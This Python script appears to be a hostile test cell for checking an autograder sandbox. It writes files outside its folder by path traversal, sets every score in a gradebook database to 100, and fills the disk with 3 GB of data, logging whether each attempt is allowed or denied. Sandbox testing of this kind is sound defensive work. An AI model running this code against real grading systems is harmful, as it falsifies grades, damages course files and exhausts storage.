# Hostile notebook cell: writes outside its scratch folder, tampers with gradebooks, fills the disk.
import os
import sqlite3

for path in ["@REPO@/autograder/course/source/lab1_retrieval/pwned.txt", "@REPO@/autograder/labs/pwned.py",
             "@OUT@/pwned.txt", "@OUT@/feedback/honest_a/lab1_retrieval.html", "@SUBMISSIONS@/honest_a/pwned.txt",
             "../../../source/lab1_retrieval/pwned.txt", "../../../nbgrader_config.py", "@CANARY@/pwned.txt",
             "/tmp/pwned.txt", "pwned.txt"]:
    try:
        with open(path, "w") as handle:
            handle.write("pwned")
        print("WROTE", path)
    except Exception as error:
        print("DENIED", path, type(error).__name__)
for database in ["@OUT@/gradebook.db", "../../../gradebook.db"]:
    try:
        connection = sqlite3.connect(database)
        connection.execute("UPDATE grade SET manual_score = 100")
        connection.commit()
        print("TAMPERED", database)
    except Exception as error:
        print("NODB", database, type(error).__name__)
for folder in (".", "/tmp"):  # 3 GB into the working folder, then into /tmp
    target = os.path.join(folder, "big.bin")
    try:
        with open(target, "wb") as handle:
            chunk = b"\0" * (64 << 20)
            for _ in range(48):
                handle.write(chunk)
        print("BIG", folder)
    except Exception as error:
        print("NOBIG", folder, type(error).__name__)
    if os.path.exists(target):
        os.remove(target)
